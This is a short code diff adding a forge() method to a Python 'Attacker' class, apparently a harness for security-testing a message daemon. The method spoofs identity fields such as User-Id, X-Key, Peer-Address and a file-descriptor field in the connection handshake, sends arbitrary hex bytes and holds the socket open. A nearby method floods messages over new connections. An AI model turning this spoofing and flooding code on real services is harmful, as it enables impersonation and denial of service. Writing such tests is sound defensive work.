@@ -297,6 +297,16 @@ class Attacker:
 
         self.again(act)
 
+    def forge(self) -> None:
+        """Claims in READY to be somebody else, in every name that the daemon reads, and sends `send` (hex)."""
+        claims = {b"User-Id": b"identity", b"X-Key": b"key", b"X-Conn": b"1", b"Peer-Address": b"localhost:4:4:4"}
+        claims |= {b"__fd": b"0"}
+        extra = b"".join(prop(k, self.options.get(v.decode(), v.decode()).encode()) for k, v in claims.items())
+        with shake(self.endpoint, self.options.get("kind", "DEALER").encode(), extra) as sock:
+            sock.sendall(bytes.fromhex(self.options["send"]))
+            self.ready(pid=os.getpid())
+            time.sleep(3600)
+
     def hangup(self) -> None:
         """Messages and PING commands without end, and gone before they are read; each time over another connection."""
         kind = self.options.get("socket", "DEALER").encode()
